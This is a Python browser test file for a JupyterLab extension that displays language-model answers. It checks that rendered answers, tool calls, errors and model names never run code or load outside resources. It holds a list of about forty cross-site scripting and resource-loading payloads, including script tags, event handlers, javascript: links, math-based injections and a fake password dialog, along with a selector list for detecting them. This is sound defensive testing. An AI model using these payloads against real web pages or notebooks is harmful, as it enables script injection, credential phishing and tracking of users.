"""Answers that attack the page: nothing of them runs or loads, live, after a reload, or in somebody else's hands."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING, Any

import nbformat
import pytest

from tests.wire.answers import CHUNKED, DONE, LAST, chunk, frame, refused
from tests.wire.raw_server import RawServer

if TYPE_CHECKING:
    from tests.browser.jupyterlab import Notebook

pytestmark = pytest.mark.browser

RUN = "window.top.byomHacked = (window.top.byomHacked || 0) + 1"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT>",
    "<script src='EVIL/script.js'></script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src='EVIL/image.png' onload='{RUN}'>",
    f"<svg onload='{RUN}'><image href='EVIL/svg.png'/></svg>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<video autoplay onerror='{RUN}' poster='EVIL/poster.png'><source src='EVIL/v.mp4'></video>",
    "<audio src='EVIL/a.mp3' autoplay></audio>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "<iframe src='EVIL/frame'></iframe>",
    "<object data='EVIL/object'></object><embed src='EVIL/embed'>",
    "<meta http-equiv='refresh' content='0;url=EVIL/refresh'>",
    "<link rel='stylesheet' href='EVIL/style.css'>",
    "<style>@import 'EVIL/import.css'; * { background: url(EVIL/all.png) !important }</style>",
    "<p style='background-image:url(EVIL/background.png)'>styled</p>",
    "<base href='EVIL/'>",
    f"<form action='javascript:{RUN}'><input autofocus onfocus='{RUN}' type=image src='EVIL/input.png'></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
    "<button data-commandlinker-command='notebook:restart-kernel' data-commandlinker-args='{}'>click</button>",
    f"<a href='javascript:{RUN}'>html link</a>",
    f"[link](javascript:{RUN})",
    f"[link](JaVaScRiPt&colon;{RUN})",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[link](vbscript:msgbox)",
    f"[ref]: javascript:{RUN}\n\n[ref]",
    f"<javascript:{RUN}>",
    "![image](EVIL/markdown.png?q=secret)",
    "![image][later]\n\n[later]: EVIL/reference.png",
    "[![nested](EVIL/nested.png)](https://ok.example/)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "```mermaid\ngraph TD; A[<img src='EVIL/mermaid.png'>] --> B\n```",
    "```html\n</code></pre><script>window.top.byomHacked = 1</script>\n```",
    f"```\"><img src=x onerror='{RUN}'>\ncode\n```",
    "$\\href{javascript:window.top.byomHacked=1}{x}$ and $\\unicode{x3c}$ and $\\includegraphics{EVIL/tex.png}$",
    "$\\style{background:url(EVIL/tex-style.png)}{x}$ and $\\require{html}\\class{jp-Dialog}{x}$",
    f"$$\\text{{</span><img src=x onerror='{RUN}'>}}$$",
    f"\\(<img src=x onerror='{RUN}'>\\)",
    "</div></div></div><div class='jp-Dialog' style='position:fixed;inset:0'>Type your password</div>",
    f"| a |\n|---|\n| <img src=x onerror='{RUN}'> ![x](EVIL/cell.png) |",
    f"# <img src=x onerror='{RUN}'>",
    "\u202e\u2066 \x1b]8;;EVIL/osc\x07click\x1b]8;;\x07 \x07",
]

FORBIDDEN = (
    "script, style, link, meta, base, iframe, object, embed, form, input, button, video, audio, source, svg, "
    "img, image, math, [srcset], [onload], [onerror], [ontoggle], [onfocus], [srcdoc], [class*=Dialog], "
    "a[href^='javascript' i], a[href^='data:' i], a[href^='vbscript' i], [data-commandlinker-command]"
)

# Only what the model's text became: MathJax draws formulas with elements of its own.
FOUND = f"""
cell => Array.from(document.querySelectorAll(
  `.jp-Notebook .jp-Cell[data-windowed-list-index="${{cell}}"] .jp-OutputArea-output .byom *`))
  .filter(each => !each.closest('mjx-container, .MathJax') && each.matches(`{FORBIDDEN}`)
    || (each.getAttribute('style') || '').includes('url('))
  .map(each => each.outerHTML.slice(0, 200))
"""


def streamed(text: str) -> bytes:
    return frame(*(chunk(text[at : at + 7]) for at in range(0, len(text), 7)))


@pytest.fixture(scope="module")
def evil() -> Iterator[RawServer]:
    with RawServer([refused("404 Nothing", b"")]) as server:
        yield server


@pytest.fixture(scope="module")
def attacked(open_notebook: Callable[..., Notebook], evil: RawServer) -> Iterator[Notebook]:
    text = "\n\n".join(payload.replace("EVIL", evil.origin) for payload in PAYLOADS)
    markup = text.replace("\n", " ")
    calls = [
        {
            "index": 0,
            "id": "c",
            "function": {"name": f"<img src=x onerror='{RUN}'>", "arguments": json.dumps({"x": markup})},
        }
    ]
    answers = (
        [CHUNKED, streamed(text), frame(chunk("The end."), chunk(finish="stop"), DONE) + LAST],
        [
            CHUNKED,
            frame(
                chunk(delta={"reasoning_content": text}),
                chunk("The end.", model=markup[:500]),
                chunk(finish="stop"),
                DONE,
            )
            + LAST,
        ],
        [CHUNKED, frame(chunk(delta={"tool_calls": calls}), chunk(finish="tool_calls"), DONE) + LAST],
        [refused("400 Bad", {"error": {"message": markup, "code": markup}})],
        [CHUNKED, frame(chunk("The end."))],
    )
    with RawServer(*answers) as server:
        notebook = open_notebook(
            [
                (
                    f"%load_ext byom_magics\n%byom_register mine --url {server.url} --model \"<img src=x onerror='{RUN}'>\""
                    f' --name "<script>{RUN}</script>" --description "<script>{RUN}</script>"'
                ),
                *["%%byom mine --on-error show\nhi"] * 5,
                "%byom_models",
                f"%%byom mine --dry-run\n<img src=x onerror='{RUN}'>",
                "%%byom demo/pydoc -f code --on-error show\n<script>",
                "_byom",
            ]
        )
        for cell in range(len(notebook.saved().cells)):
            notebook.run(cell)
        yield notebook


def test_what_is_looked_for_would_be_found(open_notebook: Callable[..., Notebook]) -> None:
    with RawServer([refused("404 Nothing", b"")]) as evil:
        check_control(open_notebook, evil)


def check_control(open_notebook: Callable[..., Notebook], evil: RawServer) -> None:
    bad = f"<div class='byom'><img src='{evil.origin}/control.png' onerror='{RUN}'></div>"
    notebook = open_notebook([f"from IPython.display import HTML\nHTML({bad!r})"])
    notebook.run(0)
    notebook.page.wait_for_function("() => window.byomHacked === 1")
    assert len(notebook.page.evaluate(FOUND, 0)) == 1
    assert set(notebook.foreign) == {f"{evil.origin}/control.png"}  # painted again, it is asked for again
    assert {request.line for request in evil.requests} == {"GET /control.png HTTP/1.1"}


def check_harmless(notebook: Notebook, evil: RawServer) -> None:
    cells = len(notebook.saved().cells)
    notebook.page.wait_for_function("() => new Promise(done => requestIdleCallback(() => done(true)))")
    for cell in range(cells):
        notebook.select(cell)
        notebook.page.wait_for_function("() => new Promise(done => requestIdleCallback(() => done(true)))")
        assert notebook.page.evaluate(FOUND, cell) == [], f"cell {cell}"
    assert notebook.page.evaluate("() => window.byomHacked || 0") == 0
    assert notebook.foreign == []
    assert evil.requests == []
    assert evil.peers == []


def test_live_nothing_runs_and_nothing_is_asked_of_anybody(attacked: Notebook, evil: RawServer) -> None:
    shown = attacked.shown(1)
    assert "The end." in shown
    assert "<script>" in shown, "it is there to be read"
    assert evil.origin.partition("://")[2] in shown, "a placeholder names the host of an image"
    check_harmless(attacked, evil)


def test_opening_what_can_be_opened_and_pointing_at_links_does_no_harm(attacked: Notebook, evil: RawServer) -> None:
    for cell in (1, 2, 3):
        attacked.select(cell)
        attacked.page.evaluate("document.querySelectorAll('.byom details').forEach(each => { each.open = true; })")
        links = attacked.area(cell).locator("a")
        for number in range(links.count()):
            address = links.nth(number).get_attribute("href") or ""
            assert address.startswith(("http://", "https://", "mailto:")), address
            assert "noopener" in (links.nth(number).get_attribute("rel") or "")
    check_harmless(attacked, evil)


def test_saved_and_opened_again_it_is_as_harmless(attacked: Notebook, evil: RawServer) -> None:
    attacked.select(1)
    attacked.until_drawn(1)
    before = attacked.shown(1)
    attacked.save()
    attacked.open(wait_for_kernel=False)
    attacked.until_shown(1, "The end.")
    attacked.shows(1, before)
    check_harmless(attacked, evil)


def test_in_somebody_else_s_hands_it_is_as_harmless(
    attacked: Notebook, evil: RawServer, open_notebook: Callable[..., Notebook], tmp_path: Any
) -> None:
    attacked.save()
    changed = attacked.saved()
    changed.metadata["note"] = "no longer what was signed"
    nbformat.write(changed, tmp_path / "received.ipynb")
    received = open_notebook(tmp_path / "received.ipynb")
    received.until_shown(1, "The end.")
    assert not received.page.evaluate("jupyterapp.shell.currentWidget.content.model.cells.get(1).trusted")
    check_harmless(received, evil)
